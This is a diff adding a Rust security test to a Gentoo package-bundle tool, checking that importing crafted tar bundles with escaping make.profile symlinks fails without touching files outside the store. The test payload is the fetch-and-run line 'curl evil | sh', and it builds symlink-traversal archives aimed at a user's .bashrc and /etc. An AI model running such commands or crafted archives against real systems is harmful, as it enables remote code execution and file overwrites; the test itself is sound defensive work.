@@ -750,3 +750,193 @@ fn abi_scan_finds_the_kernel_note_in_a_gpkg() {
     let e = gbuild::abi::scan_binpkg(&bad).unwrap_err().to_string();
     assert!(e.contains("bad.gpkg.tar"), "{e}");
 }
+
+fn sha256_hex(data: &[u8]) -> String {
+    use sha2::Digest;
+    hex::encode(sha2::Sha256::digest(data))
+}
+
+/// `entries` (a bundle's, manifest first) with `edit` applied to the manifest.
+fn with_manifest(entries: &[RawEntry], edit: impl FnOnce(&mut serde_json::Value)) -> Vec<RawEntry> {
+    let mut out = entries.to_vec();
+    assert_eq!(out[0].0, b"gbuild-bundle.json");
+    let mut m: serde_json::Value = serde_json::from_slice(&out[0].2).unwrap();
+    edit(&mut m);
+    out[0].2 = serde_json::to_vec_pretty(&m).unwrap();
+    out
+}
+
+/// A manifest entry for a regular file holding `data`, as the exporter writes it.
+fn listed_file(path: &str, data: &[u8]) -> serde_json::Value {
+    serde_json::json!({
+        "path": path, "kind": "file", "mode": 0o644, "mtime": 1,
+        "size": data.len(), "sha256": sha256_hex(data),
+    })
+}
+
+/// Set the make.profile symlink's target in the manifest entry and the tar entry.
+fn relink(entries: &mut [RawEntry], target: &str) {
+    for e in entries.iter_mut() {
+        if e.0 == b"etc/portage/make.profile" {
+            e.3 = target.as_bytes().to_vec();
+        }
+    }
+    let mut m: serde_json::Value = serde_json::from_slice(&entries[0].2).unwrap();
+    for f in m["files"].as_array_mut().unwrap() {
+        if f["path"] == "etc/portage/make.profile" {
+            f["target"] = target.into();
+        }
+    }
+    entries[0].2 = serde_json::to_vec_pretty(&m).unwrap();
+}
+
+/// Every entry below `dir` with its content (a link's target), to show nothing changed there.
+fn tree_state(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
+    let mut out = Vec::new();
+    let mut todo = vec![dir.to_path_buf()];
+    while let Some(d) = todo.pop() {
+        for e in std::fs::read_dir(&d).unwrap() {
+            let p = e.unwrap().path();
+            let t = std::fs::symlink_metadata(&p).unwrap().file_type();
+            if t.is_symlink() {
+                let l = std::fs::read_link(&p).unwrap();
+                out.push((p, l.into_os_string().into_encoded_bytes()));
+            } else if t.is_dir() {
+                todo.push(p.clone());
+                out.push((p, Vec::new()));
+            } else {
+                let data = std::fs::read(&p).unwrap();
+                out.push((p, data));
+            }
+        }
+    }
+    out.sort();
+    out
+}
+
+#[test]
+fn import_never_writes_through_the_profile_link() {
+    let mut w = World::new();
+    let good = w.export("6.1.0");
+    assert!(w.import(&good, "laptop").status.success());
+    let entries = read_entries(&good);
+    // What an attacker wants to reach: a file of the importing user outside the store.
+    let victim = w.scratch.path().join("home");
+    std::fs::create_dir_all(victim.join(".config")).unwrap();
+    std::fs::write(victim.join(".bashrc"), "# the user's own\n").unwrap();
+    let victim_before = tree_state(&victim);
+    let store_config = w.machine("laptop").join("config");
+    let config_before = tree_state(&store_config);
+    // From machines/M/config/etc/portage up to the scratch directory, then into home/.
+    let rel_up = "../../../../../../home";
+    let evil = b"curl evil | sh\n";
+    let below = |target: &str, name: &str| {
+        let mut e = with_manifest(&entries, |m| {
+            m["files"].as_array_mut().unwrap().push(listed_file(
+                &format!("etc/portage/make.profile/{name}"),
+                evil,
+            ));
+        });
+        relink(&mut e, target);
+        e.push((
+            format!("etc/portage/make.profile/{name}").into_bytes(),
+            tar::EntryType::Regular,
+            evil.to_vec(),
+            Vec::new(),
+        ));
+        e
+    };
+    let abs_victim = victim.to_string_lossy().into_owned();
+    let mut cases: Vec<(&str, Vec<RawEntry>, String)> = vec![
+        (
+            "absolute link, file below",
+            below(&abs_victim, ".bashrc"),
+            "\"etc/portage/make.profile/.bashrc\"".into(),
+        ),
+        (
+            "relative link, new file below",
+            below(rel_up, "created"),
+            "\"etc/portage/make.profile/created\"".into(),
+        ),
+        (
+            "link into the store, file below",
+            below("../../../../laptop/config/etc/portage", "package.mask"),
+            "\"etc/portage/make.profile/package.mask\"".into(),
+        ),
+    ];
+    // Links alone, the manifest still claiming the host's real profile.
+    for (name, target) in [
+        ("link to /etc", "/etc"),
+        ("relative link to /etc", "../../../../../../../../etc"),
+        (
+            "link escaping a profile",
+            "../../var/db/repos/gentoo/profiles/../../../../etc",
+        ),
+        ("link to a repository's top", "../../var/db/repos/gentoo"),
+    ] {
+        let mut e = entries.clone();
+        relink(&mut e, target);
+        cases.push((name, e, "\"etc/portage/make.profile\"".into()));
+    }
+    // A real profile in the tree, but the manifest records another one.
+    let lying = with_manifest(&entries, |m| {
+        m["profile"]["path"] = "default/linux/amd64/23.0/systemd".into();
+    });
+    cases.push((
+        "manifest's profile differs from the link",
+        lying,
+        "\"etc/portage/make.profile\"".into(),
+    ));
+    for (name, e, want) in cases {
+        let p = w.scratch.path().join(format!(
+            "link-{}.tar",
+            name.replace(' ', "-").replace('/', "")
+        ));
+        std::fs::write(&p, raw_tar(&e)).unwrap();
+        for machine in ["laptop", "fresh"] {
+            let o = w.import(&p, machine);
+            let err = util::stderr(&o);
+            assert_eq!(
+                o.status.code(),
+                Some(1),
+                "{name}: import into {machine} must fail: {err}"
+            );
+            assert!(err.contains(&want), "{name}: error names {want}: {err}");
+            assert_eq!(err.lines().count(), 1, "{name}: one line: {err}");
+            assert_eq!(
+                tree_state(&victim),
+                victim_before,
+                "{name}: outside the store"
+            );
+            assert!(!victim.join("created").exists(), "{name}");
+            assert_eq!(tree_state(&store_config), config_before, "{name}: store");
+        }
+        assert!(!w.machine("fresh").exists(), "{name}: nothing imported");
+        // diff refuses it (exit 2), never "identical" (exit 0).
+        let o = w.diff(&p);
+        assert_eq!(
+            o.status.code(),
+            Some(2),
+            "{name}: diff: {}",
+            util::stdout(&o)
+        );
+        assert!(
+            util::stderr(&o).contains(&want),
+            "{name}: {}",
+            util::stderr(&o)
+        );
+    }
+    // The host's own relative and absolute forms of the same link are fine.
+    for target in [
+        PROFILE,
+        "/var/db/repos/gentoo/profiles/default/linux/amd64/23.0",
+    ] {
+        let mut e = entries.clone();
+        relink(&mut e, target);
+        let e = with_manifest(&e, |m| m["profile"]["link"] = target.into());
+        let p = w.scratch.path().join("relinked.tar");
+        std::fs::write(&p, raw_tar(&e)).unwrap();
+        let o = w.diff(&p);
+        assert_eq!(o.status.code(), Some(0), "{target}: {}", util::stderr(&o));
+    }
+}
